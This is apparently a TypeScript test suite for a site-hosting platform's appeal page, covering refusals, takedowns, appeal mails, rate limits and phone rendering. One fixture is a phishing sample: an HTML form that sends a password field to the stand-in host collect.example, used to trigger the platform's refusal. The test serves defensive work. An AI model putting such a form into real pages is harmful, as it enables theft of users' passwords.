/** Tests of the appeal page over HTTP and in a real browser on a phone. */
import assert from 'node:assert/strict'
import { after, describe, test } from 'node:test'
import { openBrowser } from '../../../test/fixtures/portal/browser.ts'
import { assertFit } from '../../../test/fixtures/portal/fit.ts'
import { openTestRuntime } from '../../../test/fixtures/runtime.ts'
import { mailSettings, openMailServer } from '../../../test/fixtures/external/mail-server.ts'
import { signInDutch } from '../../../test/fixtures/portal/language.ts'
import { newVisitor } from '../../../test/fixtures/portal/portal.ts'
import { newSession } from '../../../test/fixtures/portal/sessions.ts'
import { filesFromTexts, newSiteOwner, newSlug } from '../../../test/fixtures/sites/site-owner.ts'
import {
  decide,
  listReviews,
  restoreOnline,
  takeOffline,
} from '../../areas/sites/reviews/moderation.ts'
import { limits } from '../../contract/limits.ts'

const mail = await openMailServer()
const fixture = await openTestRuntime({
  settings: {
    ...mailSettings(mail),
    HOMEPORT_OPERATOR_EMAIL: 'operator@home.example',
  },
})
const browser = await openBrowser()
const { runtime } = fixture

const page = '<!doctype html><title>Bread</title>'
const stealing = `${page}\n<form action="https://collect.example"><input type="password"></form>`

async function refused() {
  const owner = await newSiteOwner(fixture)
  const slug = newSlug()
  const body = { slug, files: filesFromTexts({ 'index.html': stealing }) }
  const { appeal_url } = (await owner.call('POST /sites', body)).body
  const visitor = newVisitor(fixture)
  return { ...owner, slug, visitor, path: new URL(appeal_url).pathname }
}

async function offline() {
  const owner = await newSiteOwner(fixture)
  const { id, slug } = await owner.publish({ 'index.html': page })
  await ownedByMail(owner.project_id)
  const taken = await takeOffline(runtime, { id, reason: 'Phishing <b>was</b> reported.' })
  assert.ok(taken)
  return {
    ...owner,
    id,
    slug,
    visitor: newVisitor(fixture),
    path: new URL(taken.appeal_url).pathname,
  }
}

async function ownedByMail(project_id: string): Promise<void> {
  const owner_email = `owner@${project_id}.example`
  await runtime.db.transact((tx) =>
    tx.updateTable('projects').set({ owner_email }).where('id', '=', project_id).execute(),
  )
}

async function reviewOf(project_id: string): Promise<string> {
  const all = await listReviews(runtime.db, { open: false, count: 100 })
  const review = all.find((one) => one.project_id === project_id)
  assert.ok(review)
  return review.id
}

type Mail = (typeof mail.mails)[number]

/**
 * Returns the matching mails so far, once there is at least one. Mails of other tests may arrive at
 * any time.
 */
async function mailsThat(are: (one: Mail) => boolean): Promise<Mail[]> {
  while (!mail.mails.some(are)) await mail.received(mail.mails.length + 1)
  return mail.mails.filter(are)
}

const mailsTo = (address: string) => mailsThat(({ to }) => to.includes(address))

describe('the appeal page', () => {
  test('shows the finding, its place, the reason and the fix', async () => {
    const { visitor, path, slug } = await refused()
    const { status, text, headers } = await visitor.get(path)
    assert.equal(status, 200)
    for (const words of [
      `${slug} was not published`,
      'found one problem',
      '<code>index.html</code>, line 2',
      'This form sends a password to collect.example.',
      'is how passwords are stolen',
      'Link to the other service&#39;s own sign-in page',
    ]) {
      assert.ok(text.replaceAll(/\s+/g, ' ').includes(words), words)
    }
    assert.match(headers.get('cache-control') ?? '', /no-store/)
    assert.match(headers.get('content-security-policy') ?? '', /default-src 'none'/)
    assert.match(text, /name="robots" content="noindex"/)
  })

  test('shows the reason of the operator for a takedown', async () => {
    const { visitor, path, slug } = await offline()
    const { text } = await visitor.get(path)
    assert.ok(text.includes(`${slug} was taken offline`))
    assert.ok(text.includes('Phishing &lt;b&gt;was&lt;/b&gt; reported.'))
  })

  test('is named by the portal, with the reason, while a site is offline', async () => {
    const { path, project_id, id } = await offline()
    const email = `owner@${project_id}.example`
    const session = await newSession(fixture, email)
    const list = async () =>
      (await session.call(`GET /projects/${project_id}/offline-sites`)).body.data
    const [site] = await list()
    assert.deepEqual([site.id, site.reason], [id, 'Phishing <b>was</b> reported.'])
    assert.equal(new URL(site.appeal_url).pathname, path)
    assert.equal((await session.visitor.get(path)).status, 200)
    assert.ok(await restoreOnline(runtime, id))
    assert.deepEqual(await list(), [])
  })

  test('stores the statement of the owner and shows it afterwards', async () => {
    const { visitor, path } = await refused()
    const sent = await visitor.post(path, { message: 'It is <mine>.\r\nReally.', email: '' })
    assert.deepEqual([sent.status, sent.to], [303, path])
    const { text } = await visitor.get(path)
    assert.ok(text.includes('You appealed on'))
    assert.ok(text.includes('It is &lt;mine&gt;.\nReally.'))
  })

  test('accepts a new statement until the decision, and not afterwards', async () => {
    const { visitor, path, project_id } = await refused()
    await visitor.post(path, { message: 'First words' })
    await visitor.post(path, { message: 'Better words' })
    const before = await visitor.get(path)
    assert.ok(before.text.includes('Better words') && !before.text.includes('First words'))
    const review_id = await reviewOf(project_id)
    await decide(runtime, { review_id, decision: 'upheld', note: 'It <does>.' })
    await visitor.post(path, { message: 'Last words' })
    const { text } = await visitor.get(path)
    assert.ok(text.includes('the decision stands') && text.includes('It &lt;does&gt;.'))
    assert.equal(text.includes('Last words'), false)
    assert.equal(text.includes('<textarea'), false)
  })

  test('shows that a finding was allowed', async () => {
    const { visitor, path, project_id } = await refused()
    const review_id = await reviewOf(project_id)
    await decide(runtime, { review_id, decision: 'allowed', note: null })
    assert.match((await visitor.get(path)).text, /agrees with you\. Publish the site again/)
  })

  test('names every fault of a form and keeps the input', async () => {
    const { visitor, path } = await refused()
    const { status, text } = await visitor.post(path, { message: ' ', email: 'no "address"' })
    assert.equal(status, 422)
    assert.match(text, /Please say why the decision is wrong/)
    assert.match(text, /This is not an email address/)
    assert.match(text, /value="no &quot;address&quot;"/)
    const long = 'x'.repeat(limits.site_appeal_characters_max + 1)
    const refusedLong = await visitor.post(path, { message: long })
    assert.match(refusedLong.text, /at most 4000 characters/)
    assert.equal((await visitor.get(path)).text.includes('You appealed'), false)
  })

  test('answers 404 for unknown tokens', async () => {
    const { visitor, path } = await refused()
    for (const wrong of [
      `${path}x`,
      path.slice(0, -1),
      '/portal/appeals/%00',
      '/portal/appeals/a',
    ]) {
      const { status, text } = await visitor.get(wrong)
      assert.equal(status, 404, wrong)
      assert.match(text, /incomplete|no such page/)
      assert.equal((await visitor.post(wrong, { message: 'x' })).status, 404)
    }
  })

  test('refuses a form from another site', async () => {
    const { visitor, path } = await refused()
    const from = { origin: 'https://elsewhere.example', 'sec-fetch-site': 'cross-site' }
    const { status } = await visitor.post(path, { message: 'x' }, from)
    assert.equal(status, 403)
    assert.equal((await visitor.get(path)).text.includes('You appealed'), false)
  })

  test('limits appeals per address and hour, and gives the time to retry', async () => {
    fixture.passes('1 hour')
    const { visitor, path } = await refused()
    for (let time = 0; time < limits.site_appeals_per_hour_max; time += 1) {
      await visitor.post(path, { message: `Again, ${time}` })
    }
    const { status, headers } = await visitor.post(path, { message: 'Once more' })
    assert.equal(status, 429)
    assert.ok(Number(headers.get('retry-after')) > 0)
    fixture.passes('1 hour')
    assert.equal((await visitor.post(path, { message: 'Later' })).status, 303)
  })
})

describe('the mail about an appeal', () => {
  test('is sent to the operator once per appeal, with findings and statement', async () => {
    const { visitor, path, slug, project_id } = await refused()
    await visitor.post(path, { message: 'It is mine.\nReally.', email: 'jan@bakery.example' })
    await visitor.post(path, { message: 'It is mine, I say.' })
    const subject = `Appeal about the site ${slug}`
    const received = await mailsThat(({ headers }) => headers['subject'] === subject)
    assert.deepEqual(
      received.map(({ to }) => to),
      [['operator@home.example']],
    )
    const review = await reviewOf(project_id)
    assert.match(received[0]?.text ?? '', /- index\.html, line 2: This form sends a password/)
    assert.match(received[0]?.text ?? '', /^> It is mine/m)
    assert.ok(received[0]?.text.includes(`sites decide --review ${review} --allow`))
  })

  test('is sent with the decision to the address given in the appeal', async () => {
    const { visitor, path, project_id } = await refused()
    const email = `jan@${project_id}.example`
    await visitor.post(path, { message: 'It is mine.', email })
    const review_id = await reviewOf(project_id)
    await decide(runtime, { review_id, decision: 'allowed', note: 'Sorry.' })
    const [received] = await mailsTo(email)
    assert.match(
      received?.text ?? '',
      /You were right\.[\s\S]*Sorry\.[\s\S]*publish the site again/,
    )
  })

  test('is sent to the owner of an offline site with the reason and the appeal link', async () => {
    const { path, project_id, slug } = await offline()
    const [received] = await mailsTo(`owner@${project_id}.example`)
    assert.equal(received?.headers['subject'], `Your site ${slug} was taken offline`)
    assert.match(received?.text ?? '', /The reason: Phishing/)
    assert.ok(received?.text.replaceAll(/=\r?\n/g, '').includes(path))
  })

  test('is in Dutch if the address belongs to a Dutch account', async () => {
    const { visitor, path, project_id, slug } = await refused()
    const email = `owner@${project_id}.example`
    await ownedByMail(project_id)
    await signInDutch(fixture, email)
    await visitor.post(path, { message: 'Hij is van ons.', email })
    const review_id = await reviewOf(project_id)
    await decide(runtime, { review_id, decision: 'upheld', note: null })
    const [received] = await mailsTo(email)
    assert.match(received?.headers['subject'] ?? '', /^Er is beslist over uw bezwaar voor de site/)
    assert.match(received?.text ?? '', /De beslissing blijft staan\./)
    assert.ok(received?.text.includes(`de site "${slug}" van uw project`))
  })
})

describe('the appeal page in a browser on a phone', () => {
  after(() => browser.close())

  test('fits the width of a phone and works without a script', async () => {
    fixture.passes('1 hour')
    const { path } = await refused()
    const context = await browser.newContext({
      viewport: { width: 360, height: 740 },
      javaScriptEnabled: false,
    })
    const tab = await context.newPage()
    await tab.goto(fixture.url + path)
    await tab.getByLabel('Why it is wrong').fill('It is our own sign-in page.')
    await tab.getByRole('button', { name: 'Send' }).click()
    await tab.getByText('You appealed on').waitFor()
    assert.equal(new URL(tab.url()).pathname, path)
    await context.close()
  })

  test('has no accessibility fault', async () => {
    const { path } = await refused()
    const tab = await browser.newPage({ viewport: { width: 360, height: 740 } })
    await tab.goto(fixture.url + path)
    await assertFit(tab, 360)
    await tab.close()
  })
})
